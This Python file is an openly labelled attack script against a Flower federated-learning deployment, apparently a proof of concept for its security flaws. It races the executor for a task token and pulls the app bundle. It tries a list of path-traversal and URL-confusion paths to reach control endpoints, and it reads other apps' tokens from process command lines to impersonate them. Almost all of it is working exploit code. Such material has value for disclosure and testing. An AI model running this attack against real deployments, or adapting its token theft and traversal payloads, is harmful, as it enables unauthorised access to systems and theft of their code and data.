"""An attack: a process with an address and a CA certificate, and no key, commands a deployment.

    python stranger.py HOST:PORT CA.CRT

Takes the ServerApp's task before the executor does, pulls the app's bundle with it, lists the nodes
in the app's name, and through the control interface lists nodes and runs. Any local account can
also read the token of a running app from its command line, and speak for it. Prints what it got as
JSON; what was refused is missing.
"""

import http.client
import json
import ssl
import sys
from contextlib import closing, suppress
from pathlib import Path

import psutil
from flwr.proto.control_pb2 import ListNodesRequest, ListRunsRequest
from flwr.proto.runtime_pb2 import AcquireTaskRequest, GetNodesRequest, PullTaskInputRequest
from flwr.supercore.constant import TASK_TYPE_TO_COMMAND
from flwr.supercore.control import ControlHttpClient
from flwr.supercore.interceptors import RuntimeTokenHttpInterceptor, RuntimeVersionHttpInterceptor
from flwr.supercore.runtime import RuntimeHttpClient

#: The control interface by paths that look like the fleet interface's.
CROOKED = (
    "/v1/fleet/../control/list-nodes",
    "/v1/fleet/%2e%2e/control/list-nodes",
    "/v1/fleet/..%2fcontrol/list-nodes",
    "/v1/fleet//../../v1/control/list-nodes",
    "https://x/v1/control/list-nodes",
    "/v1/control/list-nodes?/v1/fleet/",
    "/v1/fleet/;/v1/control/list-nodes",
)


def attack(address: str, certificate: bytes | None) -> dict[str, object]:
    """Everything that could be had."""
    how = (address, certificate is None, certificate)
    version = RuntimeVersionHttpInterceptor(component_name="SuperExec")
    got: dict[str, object] = {}
    with ControlHttpClient.from_server_address(*how, []) as control:
        with suppress(Exception):
            got["nodes, by control"] = len(control.ListNodes(ListNodesRequest()).nodes_info)
        with suppress(Exception):
            got["runs, by control"] = len(control.ListRuns(ListRunsRequest()).run_dict)
    for path in CROOKED:
        with suppress(Exception):
            if (status := posted(address, certificate, path)) not in (401, 403, 404):
                got[path] = status
    token = ""
    with RuntimeHttpClient.from_server_address(*how, [version]) as runtime, suppress(Exception):
        types = list(TASK_TYPE_TO_COMMAND)
        token = runtime.AcquireTask(AcquireTaskRequest(supported_task_types=types)).token
    if token:
        got["task"] = "taken"
        mine = RuntimeTokenHttpInterceptor(token)
        with RuntimeHttpClient.from_server_address(*how, [version, mine]) as runtime:
            with suppress(Exception):
                found = runtime.PullTaskInput(PullTaskInputRequest())
                got["bundle, bytes"] = len(found.fab.content)
            with suppress(Exception):
                got["nodes, by the task"] = len(runtime.GetNodes(GetNodesRequest()).nodes)
    for seen in tokens():
        theirs = RuntimeTokenHttpInterceptor(seen)
        client = RuntimeHttpClient.from_server_address(*how, [version, theirs])
        with client as runtime, suppress(Exception):
            nodes = runtime.GetNodes(GetNodesRequest()).nodes
            got["nodes, by a running app's token"] = len(nodes)
    return got


def posted(address: str, certificate: bytes | None, path: str) -> int:
    """The status that an empty request to a path is answered with, the path sent as it is."""
    if certificate is None:
        connection = http.client.HTTPConnection(address, timeout=30)
    else:
        context = ssl.create_default_context(cadata=certificate.decode())
        connection = http.client.HTTPSConnection(address, timeout=30, context=context)
    with closing(connection):
        connection.request("POST", path, headers={"content-type": "application/x-protobuf"})
        return connection.getresponse().status


def tokens() -> list[str]:
    """The tokens of running apps, as the list of processes shows them to every account."""
    found = []
    for process in psutil.process_iter():
        with suppress(psutil.Error, IndexError):
            line = process.cmdline()
            if "flwr-serverapp" in " ".join(line) and "--token" in line:
                found.append(line[line.index("--token") + 1])
    return found


if __name__ == "__main__":
    certificate = Path(sys.argv[2]).read_bytes() if len(sys.argv) > 2 else None
    print(json.dumps(attack(sys.argv[1], certificate)))
